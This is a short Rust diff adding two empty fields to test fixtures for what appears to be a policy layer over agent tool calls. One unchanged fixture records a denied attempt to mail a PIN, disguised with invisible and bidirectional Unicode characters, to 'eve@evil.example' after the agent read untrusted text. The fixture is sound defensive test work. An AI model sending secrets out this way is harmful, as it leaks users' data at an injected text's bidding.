@@ -82,6 +82,8 @@ fn call(number: u64, at: i64, tool: &str) -> Record {
         method: Some("tools/call".into()),
         target: Some(tool.into()),
         pin: None,
+        effect: None,
+        errand: None,
         effects: BTreeSet::from([Effect::Read]),
         arguments_digest: None,
         arguments: Some(json!({"folder": "inbox", "count": 3}).into()),
@@ -130,6 +132,8 @@ fn denied(number: u64, at: i64) -> Record {
     let words = "sending mail is denied after reading untrusted text";
     Record {
         arguments: Some(json!({"to": "eve@evil.example", "text": "pin\u{202e}4321\u{200b}"}).into()),
+        effect: None,
+        errand: None,
         effects: BTreeSet::from([Effect::Egress, Effect::Write]),
         decision: Some(decision(
             Decision::Deny(Reason::Forbidden),
@@ -153,6 +157,8 @@ fn question(number: u64, at: i64) -> Record {
         direction: Direction::ToClient,
         method: Some("elicitation/create".into()),
         target: None,
+        effect: None,
+        errand: None,
         effects: BTreeSet::new(),
         arguments: None,
         decision: None,
